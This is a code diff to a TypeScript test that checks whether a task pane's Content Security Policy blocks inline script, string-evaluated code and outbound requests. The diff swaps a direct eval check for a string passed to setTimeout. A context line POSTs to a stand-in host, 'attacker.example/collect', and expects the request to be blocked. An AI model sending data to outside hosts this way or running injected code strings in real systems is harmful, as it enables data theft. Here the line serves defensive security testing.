@@ -82,11 +82,11 @@ test('the task pane renders under it, and it refuses inline script, eval and req
     s.textContent = 'window.__inline = 1';
     document.body.appendChild(s);
     out.inline = String((window as unknown as { __inline?: number }).__inline ?? 'blocked');
-    try {
-      out.eval = String(eval('1 + 1'));
-    } catch {
-      out.eval = 'blocked';
-    }
+    // A string run as code (eval's kin) from a later task: the DevTools call that runs this function may eval
+    // itself (CDP's allowUnsafeEvalBlockedByCSP), so the attempt must come from the page's own event loop.
+    (setTimeout as unknown as (code: string, ms: number) => void)('window.__evaled = 1', 0);
+    await new Promise((r) => setTimeout(r, 200));
+    out.eval = String((window as unknown as { __evaled?: number }).__evaled ?? 'blocked');
     out.fetch = await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
       () => 'sent',
       () => 'blocked',
